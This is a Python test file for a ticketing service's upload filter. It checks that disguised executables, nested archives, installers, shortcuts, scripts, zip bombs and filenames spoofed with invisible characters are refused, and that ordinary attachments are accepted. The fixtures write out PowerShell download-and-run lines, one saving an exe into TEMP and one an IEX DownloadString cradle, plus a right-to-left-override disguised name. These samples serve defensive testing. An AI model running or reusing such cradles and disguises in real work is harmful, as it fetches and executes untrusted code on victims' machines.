"""What is refused is refused however it is packed: archives in archives, installers, shortcuts, scripts in UTF-16,
zip bombs, disguised names; ordinary files still go through. Uploads over HTTP to a real server."""

from __future__ import annotations

import bz2
import gzip
import io
import lzma
import tarfile
import zipfile

import pytest

from tests.conftest import Deployment
from tests.realtime.helpers import all_events, open_ticket
from tests.utils import Server
from tests.web.test_attachments import stored_files, upload

ELF = b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 120
PNG = b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x01\x00\x00\x00\x01\x08\x02\x00\x00\x00" + b"\x00" * 40
JPEG = b"\xff\xd8\xff\xe0\x00\x10JFIF\x00" + b"\x00" * 60
PDF = b"%PDF-1.4\n1 0 obj << /Type /Catalog >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n"


def zipped(*members: tuple[str, bytes], method: int = zipfile.ZIP_DEFLATED) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", method) as z:
        for name, data in members:
            z.writestr(name, data)
    return buf.getvalue()


def tarred(*members: tuple[str, bytes], compression: str = "gz") -> bytes:
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode=f"w:{compression}") as t:
        for name, data in members:
            info = tarfile.TarInfo(name)
            info.size = len(data)
            t.addfile(info, io.BytesIO(data))
    return buf.getvalue()


def nested(depth: int) -> bytes:
    data = zipped(("photo.png", PNG))
    for level in range(depth):
        data = zipped((f"level{level}.zip", data))
    return data


def encrypted() -> bytes:
    """A zip whose entry says it is encrypted (the flag bit zipfile reads; Python cannot write real ones)."""
    data = bytearray(zipped(("secret.txt", b"hello"), method=zipfile.ZIP_STORED))
    data[6] |= 1  # the local header's flags
    central = data.index(b"PK\x01\x02")
    data[central + 8] |= 1
    return bytes(data)


def installer() -> bytes:
    """An OLE2 file whose root storage has the class id of a Windows Installer package (what .msi files are)."""
    header = bytearray(512)
    header[:8] = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
    header[0x1E:0x20] = (9).to_bytes(2, "little")  # 512-byte sectors
    header[0x30:0x34] = (0).to_bytes(4, "little")  # the directory starts at sector 0
    directory = bytearray(512)
    directory[:10] = "Root".encode("utf-16-le") + b"\x00\x00"
    directory[0x50:0x60] = bytes.fromhex("84100c0000000000c000000000000046")
    return bytes(header + directory)


SHORTCUT = b"L\x00\x00\x00\x01\x14\x02\x00\x00\x00\x00\x00\xc0\x00\x00\x00\x00\x00\x00F" + b"\x00" * 56
POWERSHELL = b"\xff\xfe" + ('$c = New-Object System.Net.WebClient\r\n'
                            '$c.DownloadFile("http://198.51.100.7/a", "$env:TEMP\\a.exe")\r\n').encode("utf-16-le")
VBSCRIPT = b"' r\xe9sum\xe9\r\nDim svc\r\nSet svc = GetObject(\"winmgmts:\\\\.\\root\\cimv2\")\r\n"
HTA = b"\xff<html><head><HTA:APPLICATION ID=\"x\" /></head><body>Invoice</body></html>"
JAR = zipped(("META-INF/MANIFEST.MF", b"Manifest-Version: 1.0\r\nMain-Class: a.Main\r\n"),
             ("a/Main.class", b"\xca\xfe\xba\xbe\x00\x00\x00\x34" + b"\x00" * 40))
APK = zipped(("AndroidManifest.xml", b"\x03\x00\x08\x00" + b"\x00" * 40), ("classes.dex", b"dex\n035\x00" + b"\x00" * 60))
BOMB = zipped(("data.bin", b"\x00" * (30 * 1024 * 1024)))
DOCX = zipped(("[Content_Types].xml", b'<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/'
                                      b'package/2006/content-types"/>'),
              ("word/document.xml", b"<w:document><w:body><w:p><w:r><w:t>Hello</w:t></w:r></w:p></w:body>"
                                    b"</w:document>" * 200),
              ("word/media/image1.png", PNG))
XLSX = zipped(("[Content_Types].xml", b"<Types/>"), ("xl/workbook.xml", b"<workbook><sheets/></workbook>"),
              ("xl/worksheets/sheet1.xml", b"<worksheet><sheetData><row r='1'><c r='A1'><v>42</v></c></row>"
                                           b"</sheetData></worksheet>"))


@pytest.fixture
def d(server: Server) -> Deployment:
    return server.deployment  # type: ignore[attr-defined,no-any-return]


@pytest.mark.parametrize(("name", "data", "words"), [
    ("docs.zip", zipped(("inner.zip", zipped(("tool", ELF)))), "docs.zip is an archive holding inner.zip › tool, "
                                                                 "which is a Linux program"),
    ("library.jar", JAR, "Java program"),
    ("game.zip", JAR, "Java program"),
    ("app.apk", APK, "Android app"),
    ("setup.dat", installer(), "Windows installer"),
    ("invoice.pdf", SHORTCUT, "Windows shortcut"),
    ("notes.txt", POWERSHELL, "script"),
    ("readme.txt", VBSCRIPT, "script"),
    ("page.txt", HTA, "script"),
    ("logs.zip", zipped(("notes/run.txt", POWERSHELL)), "logs.zip is an archive holding notes/run.txt"),
    ("long.log", b"relay ok\n" * 150_000 + b"IEX (New-Object Net.WebClient).DownloadString('http://x')\n", "script"),
    ("setup.exe", b"just text\n", "named as a program"),
    ("Run.PS1", b"Get-Date\n", "named as a program"),
    ("photos.zip", zipped(("holiday.jpg.lnk", b"hello")), "named as a program"),
    ("bomb.zip", BOMB, "zip bomb"),
    ("deep.zip", nested(4), "nested more than 3 deep"),
    ("photos.zip", zipped(("holiday\u202egnp.scr", PNG)), "U+202E RIGHT-TO-LEFT OVERRIDE"),
    ("secret.zip", encrypted(), "encrypted"),
    ("broken.zip", b"PK\x03\x04" + b"\x14\x00" * 40, "damaged"),
    ("logs.tar.gz", tarred(("logs/app.log", b"ok\n"), ("logs/helper", ELF)), "logs/helper, which is a Linux program"),
    ("logs.tar", tarred(("run.ps1", b"Get-Date\n"), compression=""), "named as a program"),
    ("tool.gz", gzip.compress(ELF), "Linux program"),
    ("tool.bz2", bz2.compress(ELF), "Linux program"),
    ("tool.xz", lzma.compress(ELF), "Linux program"),
    ("two.gz", gzip.compress(b"") + gzip.compress(ELF), "Linux program"),  # what gunzip writes: both members
    ("cut.gz", gzip.compress(b"x" * 5000)[:20], "damaged gzip"),
    ("bomb.gz", gzip.compress(b"\x00" * (30 * 1024 * 1024)), "compression bomb"),
    ("bomb.tar.xz", lzma.compress(b"\x00" * (120 * 1024 * 1024), preset=1), "bomb"),
    ("deep.tar.gz", tarred(("d.zip", nested(3))), "nested more than 3 deep"),
    ("backup.7z", b"7z\xbc\xaf\x27\x1c\x00\x04" + b"\x00" * 40, "7-Zip"),
], ids=lambda v: v if isinstance(v, str) and len(v) < 20 else "")
async def test_packed_programs_are_refused(server: Server, d: Deployment, name: str, data: bytes,
                                           words: str) -> None:
    tid = await open_ticket(server, d)
    before_files, before_events = stored_files(d), await all_events(server, d, "engineer", tid)
    r = await upload(server, d, "client", tid, [(name, data)], body="see attached")
    assert r.status_code == 415, r.text
    error = r.json()["error"]
    assert error["code"] == "refused_file" and words in error["message"], error
    assert stored_files(d) == before_files
    assert await all_events(server, d, "engineer", tid) == before_events


async def test_ordinary_files_still_go_through(server: Server, d: Deployment) -> None:
    tid = await open_ticket(server, d)
    files = [("photo.png", PNG), ("scan.pdf", PDF), ("log.txt", "Relay denied: 550 5.7.1 — résumé\nDim the lights\nSub total (net): 40\nThe end\n".encode()),
             ("report.docx", DOCX), ("budget.xlsx", XLSX), ("photos.zip", zipped(("a.png", PNG), ("b.jpg", JPEG))),
             ("nested.zip", nested(2)), ("logs.tar.gz", tarred(("logs/app.log", b"relay ok\n" * 2000), ("a.png", PNG))),
             ("trace.log.gz", gzip.compress(b"GET / 200\n" * 1000)), ("dump.tar", tarred(("x.txt", b"hi"), compression=""))]
    r = await upload(server, d, "client", tid, files)
    assert r.status_code == 201, r.text
    types = {a["name"]: a["type"] for a in r.json()["attachments"]}
    assert types == {"photo.png": "image/png", "scan.pdf": "application/pdf", "log.txt": "text/plain",
                     "report.docx": "application/vnd.openxmlformats-officedocument",
                     "budget.xlsx": "application/vnd.openxmlformats-officedocument",
                     "photos.zip": "application/zip", "nested.zip": "application/zip",
                     "logs.tar.gz": "application/gzip", "trace.log.gz": "application/gzip", "dump.tar": "application/x-tar"}


@pytest.mark.parametrize(("name", "shown"), [
    ("invoice\u202efdp.exe", "U+202E RIGHT-TO-LEFT OVERRIDE"),  # shows as "invoiceexe.pdf"
    ("photo\u2066gnp.txt", "U+2066"),
    ("report\u200b.txt", "U+200B ZERO WIDTH SPACE"),
    ("a\u061cb.png", "U+061C"),
])
async def test_names_with_invisible_characters_are_refused(server: Server, d: Deployment, name: str,
                                                           shown: str) -> None:
    tid = await open_ticket(server, d)
    r = await upload(server, d, "client", tid, [(name, PNG)])
    assert r.status_code == 400, r.text
    error = r.json()["error"]
    assert error["code"] == "bad_request" and shown in error["message"] and "disguise" in error["message"]
